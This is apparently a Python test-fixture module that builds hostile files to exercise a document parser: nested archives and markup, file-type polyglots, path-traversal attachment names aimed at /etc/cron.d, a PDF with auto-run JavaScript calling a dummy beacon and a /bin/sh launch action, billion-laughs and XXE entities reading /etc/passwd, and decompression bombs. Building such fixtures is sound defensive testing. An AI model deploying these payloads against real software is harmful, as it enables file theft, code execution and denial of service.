"""Files that are built to harm whoever opens them. Each function writes one into a folder and returns its path."""

from __future__ import annotations

import base64
import io
import json
import zipfile
import zlib
from pathlib import Path

from tests.conftest import TWO_MAILS
from tests.faults import inputs
from tests.faults.inputs import Maker, page, shown, stream, written

#: An address that nobody answers: a reader that follows it hangs or fails, and the worker may not anyway.
ELSEWHERE = "http://192.0.2.1/beacon"

_HEAD = "From: n.okafor@example.gov\r\nTo: p.lindqvist@example.gov\r\nSubject: Pier 7\r\nMIME-Version: 1.0\r\n"


def deep_html(folder: Path) -> Path:
    """100,000 elements in one another."""
    return written(folder / "deep.html", b"<div>" * 100_000 + b"Pier 7" + b"</div>" * 100_000)


def calling_html(folder: Path) -> Path:
    """A page that wants to fetch, to move on, to run, and to be framed."""
    text = (
        f'<html><head><meta http-equiv=refresh content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}">'
        f'<link rel=stylesheet href="{ELSEWHERE}"><script src="{ELSEWHERE}"></script></head><body>'
        f'<img src="{ELSEWHERE}"><iframe src="file:///etc/passwd"></iframe><object data="{ELSEWHERE}"></object>'
        "<p>The pier was inspected in November.</p></body></html>"
    )
    return written(folder / "calling.html", text.encode())


def deep_json(folder: Path) -> Path:
    """A page-text file whose second line is 200,000 lists in one another."""
    rows = [json.dumps({"page": 1, "text": "Pier 7"}), "[" * 200_000 + "]" * 200_000, '{"page": 3, "text": "Pier 9"}']
    return written(folder / "deep.jsonl", "\n".join(rows).encode())


def wide_zip(folder: Path) -> Path:
    """3,000 files of a line, all of one content, under names that only differ by case and accents."""
    with zipfile.ZipFile(folder / "wide.zip", "w") as archive:
        for number in range(3_000):
            archive.writestr(f"{number % 10}/{'Áa'[number % 2]}{number}.txt", "Pier 7\n")
    return folder / "wide.zip"


def nested_zip(folder: Path) -> Path:
    """Archives in one another, twice as deep as they are opened."""
    data, name = b"Pier 7", "inside.txt"
    for depth in range(10):
        sink = io.BytesIO()
        with zipfile.ZipFile(sink, "w") as archive:
            archive.writestr(name, data)
        data, name = sink.getvalue(), f"{depth}.zip"
    return written(folder / "nested.zip", data)


def pdf_and_zip(folder: Path) -> Path:
    """A file that is a PDF from the front and a ZIP archive from the back."""
    path = inputs.drawn(folder / "both.pdf", pages=1)
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr("inside.txt", "Pier 8")
    return written(path, path.read_bytes() + sink.getvalue())


def html_in_image(folder: Path) -> Path:
    """A GIF by its first bytes, a web page by the rest."""
    return written(folder / "image.gif", b"GIF89a/*<html><script>*/=1;</script><p>Pier 7</p></html>")


def recursive_mail(folder: Path) -> Path:
    """Mails attached to one another, 80 deep."""
    text = _HEAD + "\r\nThe innermost.\r\n"
    for depth in range(80):
        edge = f"edge{depth}"
        text = (
            f"{_HEAD}Content-Type: multipart/mixed; boundary={edge}\r\n\r\n"
            f"--{edge}\r\nContent-Type: message/rfc822\r\n\r\n"
            f"{text}\r\n--{edge}--\r\n"
        )
    return written(folder / "recursive.eml", text.encode())


def many_parts(folder: Path) -> Path:
    """A mail of 5,000 attachments that all bear one name, with a path in it."""
    parts = "".join(
        f'--edge\r\nContent-Disposition: attachment; filename="../../etc/cron.d/{n % 3}"\r\n\r\nPier {n}\r\n'
        for n in range(5_000)
    )
    head = f"{_HEAD}Content-Type: multipart/mixed; boundary=edge\r\n\r\n"
    return written(folder / "parts.eml", f"{head}{parts}--edge--\r\n".encode())


def acting_pdf(folder: Path) -> Path:
    """A PDF that wants to run a script, start a program and call home when it is opened."""
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('%b'\\)) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) >> >>"
        b" /AcroForm << /XFA 20 0 R /Fields [] >> /Names << /EmbeddedFiles << /Names [(in.exe) 21 0 R] >> >> >>"
    ) % ELSEWHERE.encode()
    form = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><script>x</script></template></xdp:xdp>"
    others = {
        1: catalog,
        10: shown("Pier 7"),
        20: stream(form),
        21: b"<< /Type /Filespec /F (in.exe) /EF << /F 22 0 R >> >>",
        22: stream(b"MZ" + b"\0" * 100),
    }
    return inputs.pdf(folder / "acting.pdf", [page(b"10 0 R")], others)


def looping_pdf(folder: Path) -> Path:
    """A PDF whose page tree leads back to itself and whose contents are a stream of 256 MB in a few hundred kB."""
    data = zlib.compress(b"0 0 m 1 1 l S " * (20 << 20), 9)
    contents = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (len(data), data)
    loop = b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 2 /Parent 2 0 R >>"
    return inputs.pdf(folder / "looping.pdf", [loop, page(b"10 0 R")], {10: contents})


def entities(folder: Path) -> Path:
    """A Word file whose text is an entity of entities (a billion laughs), and another a file of this machine."""
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">{names}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        "<w:p><w:r><w:t>Pier 7 &l9; &f;</w:t></w:r></w:p></w:body></w:document>"
    )
    kinds = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default'
        ' Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
        '"/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    links = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Target="word/document.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument"/></Relationships>'
    )
    with zipfile.ZipFile(folder / "entities.docx", "w") as archive:
        archive.writestr("[Content_Types].xml", kinds)
        archive.writestr("_rels/.rels", links)
        archive.writestr("word/document.xml", document)
    return folder / "entities.docx"


def endless_calendar(folder: Path) -> Path:
    """An appointment that comes again every second for ever."""
    text = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20211102T091500Z\r\nRRULE:FREQ=SECONDLY\r\n"
        "SUMMARY:Pier 7\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    return written(folder / "endless.ics", text.encode())


def turned_name(folder: Path) -> Path:
    """A text that calls itself a PDF, by a name of which U+202E turns the end round on the screen."""
    return written(folder / "notes \u202etxt.pdf", TWO_MAILS.encode())


def twin_names(folder: Path) -> Path:
    """Two files in one archive whose names look the same: the second has a Cyrillic letter."""
    with zipfile.ZipFile(folder / "twins.zip", "w") as archive:
        archive.writestr("paper.txt", "Latin\n" + TWO_MAILS)
        archive.writestr("p\u0430per.txt", "Cyrillic\n" + TWO_MAILS)
    return folder / "twins.zip"


def wrong_encodings(folder: Path) -> Path:
    """A mail that says one encoding and has another, in a transfer encoding that is cut off."""
    body = base64.b64encode("Señor Ruiz über Pier 7\0\x1b[2J\u202e".encode("utf-16"))[:-3]
    head = _HEAD.replace("Pier 7", "=?utf-8?b?////?= =?x-unknown?q?=FF=00?=")
    text = f"{head}Content-Type: text/plain; charset=shift_jis\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return written(folder / "encodings.eml", text.encode() + body)


NASTY: tuple[Maker, ...] = (
    deep_html,
    calling_html,
    deep_json,
    wide_zip,
    nested_zip,
    pdf_and_zip,
    html_in_image,
    recursive_mail,
    many_parts,
    acting_pdf,
    looping_pdf,
    entities,
    endless_calendar,
    turned_name,
    twin_names,
    wrong_encodings,
)
